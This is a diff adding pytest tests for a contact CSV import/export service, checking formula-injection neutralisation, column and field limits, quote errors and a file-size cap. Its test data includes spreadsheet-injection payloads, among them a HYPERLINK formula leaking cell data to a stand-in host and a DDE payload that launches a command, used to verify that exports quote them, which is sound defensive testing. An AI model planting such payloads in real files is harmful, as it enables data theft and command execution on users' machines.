@@ -163,3 +163,110 @@ def test_imported_contacts_get_time_ordered_ids(tmp_path: Path, session: Session
     for contact in contacts(session, member.organization_id).values():
         assert contact.id.version == 7 and contact.id.variant == uuid.RFC_4122
         assert before_ms <= contact.id.int >> 80 <= after_ms
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
+    "+SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@cmd",
+    "\tTAB",
+]
+
+
+def test_formulas_are_neutralised_in_the_errors_csv(tmp_path: Path, session: Session) -> None:
+    member = make_member(session)
+    text = "phone,first_name,=evil()\n=1+1,Ann,x\n+14155550123,@cmd,y\n+1 (415) 555,Bob,+14155550124\n"
+    result, errors = run(write(tmp_path, text), member.organization_id)
+    assert result.imported == 1 and result.rejected == 2
+    assert errors[0] == ["line", "error", "phone", "first_name", "'=evil()"]
+    # The rejected rows come back with their formulas quoted; only a phone column's E.164 number stays.
+    assert errors[1][2:] == ["'=1+1", "Ann", "x"]
+    assert errors[2][2:] == ["'+1 (415) 555", "Bob", "'+14155550124"]
+    # What was imported is kept as it was written.
+    assert contacts(session, member.organization_id)["+14155550123"].first_name == "@cmd"
+
+
+def test_an_export_reimports_unchanged(tmp_path: Path, session: Session) -> None:
+    from reachimpact.services import contacts as contact_service
+
+    owner = make_member(session)
+    for n, value in enumerate(FORMULAS):
+        session.add(
+            Contact(
+                organization_id=owner.organization_id,
+                phone=f"+1415555{n:04d}",
+                first_name=value,
+                last_name="=2*3",
+                custom_fields={"=evil()": value},
+            )
+        )
+    session.commit()
+    exported = "".join(contact_service.export_csv(session, owner))
+    rows = list(csv.reader(io.StringIO(exported)))
+    assert rows[0][-1] == "'=evil()"
+    for row in rows[1:]:
+        # No cell starts a formula, and phones stay plain numbers.
+        assert not any(
+            cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row if not cell.startswith("+1415")
+        )
+        assert row[2].startswith("+1415555")
+
+    other = make_member(session, org_name="Re-import")
+    result, errors = run(write(tmp_path, exported), other.organization_id)
+    assert (result.imported, result.rejected) == (len(FORMULAS), 0), errors
+    back = contacts(session, other.organization_id)
+    for n, value in enumerate(FORMULAS):
+        contact = back[f"+1415555{n:04d}"]
+        assert (contact.first_name, contact.last_name) == (value.strip(), "=2*3")
+        assert contact.custom_fields["=evil()"] == value.strip()
+
+
+def test_a_header_of_ten_thousand_columns_is_refused_saying_why(tmp_path: Path, session: Session) -> None:
+    member = make_member(session)
+    header = "phone," + ",".join(f"column_{n}" for n in range(10_000))
+    path = write(tmp_path, header + "\n+14155550123" + "," * 10_000 + "\n")
+    with pytest.raises(Invalid, match="at most 200 columns"):
+        run(path, member.organization_id)
+    wide = "phone," + ",".join(f"c{n}" for n in range(250))
+    with pytest.raises(Invalid, match="250|251"):
+        run(write(tmp_path, wide + "\n+14155550123" + "," * 250 + "\n"), member.organization_id)
+
+
+def test_custom_field_limits_hold_in_a_file(tmp_path: Path, session: Session) -> None:
+    member = make_member(session)
+    many = "phone," + ",".join(f"c{n}" for n in range(101))
+    with pytest.raises(Invalid, match="at most 100"):
+        run(write(tmp_path, many + "\n+14155550123" + "," * 101 + "\n"), member.organization_id)
+    with pytest.raises(Invalid, match="64 characters"):
+        run(write(tmp_path, "phone," + "n" * 65 + "\n+14155550123,x\n"), member.organization_id)
+    result, errors = run(
+        write(tmp_path, f"phone,favourite\n+14155550123,{'x' * 1001}\n+14155550124,ok\n"),
+        member.organization_id,
+    )
+    assert (result.imported, result.rejected) == (1, 1)
+    assert "longer than 1,000 characters" in errors[1][1]
+
+
+@pytest.mark.parametrize("parallel", [False, True])
+def test_an_unterminated_quote_is_reported_with_its_line(
+    tmp_path: Path, session: Session, parallel: bool
+) -> None:
+    member = make_member(session)
+    text = 'phone,first_name\n+14155550123,Ann\n+14155550124,"Bob\n' + "x" * 200_000 + "\n"
+    with pytest.raises(Invalid, match=r"Line 3 .*quote"):
+        run(write(tmp_path, text), member.organization_id, parallel=parallel)
+
+
+def test_a_file_past_the_size_cap_is_refused_saying_so(
+    tmp_path: Path, session: Session, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from reachimpact.services import contact_import
+
+    # The real cap is 200 MB; the rule is the same with 1 KB, without writing 200 MB to disk.
+    monkeypatch.setattr(contact_import, "MAX_FILE_BYTES", 1024)
+    member = make_member(session)
+    rows = "".join(f"+1415555{n:04d}\n" for n in range(200))
+    with pytest.raises(Invalid, match="is larger than"):
+        run(write(tmp_path, "phone\n" + rows), member.organization_id)
+    assert contacts(session, member.organization_id) == {}
